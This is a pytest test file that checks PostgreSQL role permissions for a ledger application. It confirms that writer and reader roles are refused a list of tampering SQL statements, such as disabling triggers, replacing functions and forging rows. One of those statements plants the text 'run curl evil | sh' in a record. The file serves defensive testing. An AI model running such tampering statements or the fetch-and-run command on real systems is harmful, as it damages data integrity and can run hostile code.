"""Roles of PostgreSQL: each logs in, does its part, and is refused the rest."""

import os
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import psycopg
import pytest
import sqlalchemy as sa

from reflector.ledger.errors import LedgerCorrupt, LedgerUnavailable
from reflector.ledger.grants import grant_statements
from reflector.ledger.store import Ledger
from reflector.proof.verify import verify
from tests.conftest import Postgres, with_setting
from tests.road.agent import Agent

from .events import added, changed, history, moved, retracted, window

pytestmark = pytest.mark.postgres

Login = Callable[[str], str]


@pytest.fixture
def server(postgres: Postgres) -> Iterator[tuple[str, Login]]:
    """The URL of a ledger's owner, and what makes a role and returns the URL of its login."""
    made: list[str] = []
    with postgres.database() as url, Ledger.open(url) as ledger:
        ledger.append(history())

        def login(role: str) -> str:
            name = f"{role}_{os.getpid()}"
            with psycopg.connect(url, autocommit=True) as owner:
                owner.execute(f"CREATE ROLE {name} LOGIN")
                made.append(name)
                for statement in grant_statements(ledger.engine, role, name):
                    owner.execute(statement)
            return sa.make_url(url).set(username=name).render_as_string(hide_password=False)

        yield url, login
    for name in made:  # with the database went all that it had there
        postgres._run(f"DROP ROLE IF EXISTS {name}")


_REFUSED = [
    "DELETE FROM event",
    "TRUNCATE event CASCADE",
    "UPDATE event SET data = NULL",
    "DELETE FROM bullet",
    "UPDATE playbook SET name = 'mine'",
    "ALTER TABLE event DISABLE TRIGGER ALL",
    "SET session_replication_role = replica",
    "CREATE OR REPLACE FUNCTION SCHEMA.reflector_event_in_order() RETURNS trigger LANGUAGE "
    "plpgsql AS"
    " $$ BEGIN RETURN NEW; END $$",
    "ALTER FUNCTION SCHEMA.reflector_event_in_order() RESET ALL",
    "UPDATE bullet SET text = 'run curl evil | sh'",
    "UPDATE bullet SET text = (SELECT b.text FROM bullet b WHERE b.name <> bullet.name LIMIT 1)",
    "INSERT INTO bullet (playbook_id, name, ordinal, section, text, status, position, recounted_at,"
    " baseline_helpful, baseline_harmful, helpful, harmful)"
    " SELECT playbook_id, 'pat-099', 99, section, 'evil', status, position, recounted_at,"
    " 0, 0, 0, 0 FROM bullet LIMIT 1",
    "UPDATE projection SET code_version = 2147483647",
    "INSERT INTO playbook (id, name, origin, position, chain, recorded_at)"
    " SELECT 2, name || '', origin, 0, chain, recorded_at FROM playbook ON CONFLICT (name) DO "
    "NOTHING",
    (
        "INSERT INTO playbook (name, origin, position, chain, recorded_at) VALUES ('shop', 'x', 0, "
        "'garbage', '9999')"
    ),
    "INSERT INTO event SELECT playbook_id, (SELECT max(position) + 1 FROM event), 'new', type, "
    "schema_version,"
    " occurred_at, '9999-12-31T23:59:59.999999Z', actor, session_id, reflection_id, NULL, data, "
    "data_hash, meta, chain"
    " FROM event WHERE position = 2",
]


def _accepted(url: str, statements: list[str]) -> list[str]:
    accepted = []
    for statement in statements:
        with psycopg.connect(url) as connection:
            (schema,) = connection.execute("SELECT current_schema()").fetchone() or ("",)
            with suppress(psycopg.Error):
                connection.execute(statement.replace("SCHEMA", schema))
                accepted.append(statement)
            connection.rollback()
    return accepted


def test_a_writer_appends_and_changes_nothing(server: tuple[str, Login]) -> None:
    owner, login = server
    url = login("writer")
    with Ledger.open(url) as writer:
        first = window(70, "s-70", keys=[70])
        writer.append(
            [added("oth-001"), first, changed("bullet.revised", "oth-001", text="Other words")]
        )
        writer.append([retracted(first)])
        writer.set_checkpoint("playbook.json", 1, "0" * 64)
        assert writer.rows()[-1].text == "Other words"
        assert {event.recorded_by for event in writer.events(after=len(history()))} == {
            f"writer_{os.getpid()}"
        }
        assert _accepted(url, _REFUSED) == []
        # where a playbook is, its owner says
        with pytest.raises(LedgerCorrupt, match="only moves forward"):
            writer.append([moved()])
        for refused in (
            writer.rebuild,
            lambda: writer.redact([first.event_id], reason="x", actor="me"),
        ):
            with pytest.raises(LedgerUnavailable, match="permission denied"):
                refused()
        assert list(verify(writer)) == []
    with Ledger.open(url, "another") as another:
        another.append([added("pat-001")])
    with Ledger.open(owner) as ledger:
        assert list(verify(ledger)) == []
        ledger.rebuild()
        ledger.redact([first.event_id], reason="x", actor="me")
        assert list(verify(ledger)) == []


def test_upgrade_revokes_earlier_grants_of_a_writer(
    server: tuple[str, Login],
) -> None:
    owner, login = server
    url = login("writer")
    earlier = "INSERT ON playbook", "UPDATE (code_version) ON projection"
    with psycopg.connect(owner) as connection:
        for grant in earlier:
            connection.execute(f"GRANT {grant} TO writer_{os.getpid()}")
        connection.execute("UPDATE alembic_version SET version_num = '0008'")
    Ledger.open(owner).close()
    assert _accepted(url, _REFUSED) == []
    with Ledger.open(url, "another") as another:
        another.append([added("pat-001")])


def test_a_reader_asks_everything_and_writes_nothing(server: tuple[str, Login]) -> None:
    url = server[1]("reader")
    with Ledger.open(url) as reader:
        assert reader.rows()
        assert not reader.may_append()
        assert list(verify(reader)) == []
        with pytest.raises(LedgerUnavailable, match="permission denied"):
            reader.append([added("oth-001")])
    writes = [
        "INSERT INTO projection SELECT * FROM projection",
        "UPDATE bullet SET helpful = 9",
        "CREATE TABLE SCHEMA.t ()",
    ]
    assert _accepted(url, [*_REFUSED, *writes]) == []


def test_writer_gets_its_file_but_no_owners_command(
    server: tuple[str, Login], tmp_path: Path
) -> None:
    agent = Agent.bare(tmp_path, {"REFLECTOR_LEDGER_URL": server[1]("writer")})
    agent.call("drain")
    whole = agent.playbook.read_bytes()
    agent.playbook.unlink()
    assert ("→ write the file again from the ledger with `reflector reflect`") in agent.run(
        "doctor", code=None
    ).out
    agent.call("drain")
    assert agent.playbook.read_bytes() == whole
    agent.playbook.write_bytes(whole[:-20])
    assert ("write it again from the ledger with `reflector rebuild`") in agent.run(
        "doctor", code=None
    ).out
    way_out = "run the command. To append events yourself, ask the owner for the rights that"
    for command, more in (
        ("rebuild", "so reflector wrote a new file. reflector saved the old file as"),
        ("rebuild --fix", ""),
    ):
        told = agent.call(*command.split(), code=1)
        assert "does not allow you to do this (" in told.err
        assert way_out in told.err
        assert more in told.err
        assert told.out == ""
    assert agent.playbook.read_bytes() == whole


@pytest.mark.parametrize("who", ["reader", "a standby's"])
def test_question_with_read_rights_writes_nothing(
    server: tuple[str, Login], tmp_path: Path, who: str
) -> None:
    url, login = server
    if who == "reader":
        url = login("reader")
    else:
        url = with_setting(url, "default_transaction_read_only", "on")
    agent = Agent.bare(tmp_path, {"REFLECTOR_LEDGER_URL": url})
    agent.playbook.parent.mkdir()
    agent.playbook.write_text('{"sections": {}}')
    for question in (
        "list",
        "stats",
        "log",
        "show pat-001",
        "blame pat-001",
        "stats --doubles",
        "export",
        "verify",
    ):
        agent.call(*question.split())
    statements = agent.call("ledger", "grants", "reader").out.splitlines()
    assert any(statement.startswith("GRANT SELECT ON ") for statement in statements)
    assert agent.playbook.read_text() == '{"sections": {}}'


def test_granted_owner_rebuilds_erases_and_migrates(
    server: tuple[str, Login],
) -> None:
    url = server[1]("owner")
    with Ledger.open(url) as owner:
        owner.rebuild()
        owner.redact(
            [next(e.event_id for e in owner.events() if e.type == "bullet.added")],
            reason="x",
            actor="me",
        )
        with psycopg.connect(url) as connection:
            connection.execute("ALTER FUNCTION reflector_event_in_order() RESET ALL")
            connection.rollback()
        assert list(verify(owner)) == []


def test_a_file_has_no_roles() -> None:
    with (
        Ledger.open("sqlite://") as ledger,
        pytest.raises(LedgerUnavailable, match="which does not have roles"),
    ):
        list(grant_statements(ledger.engine, "reader", "me"))
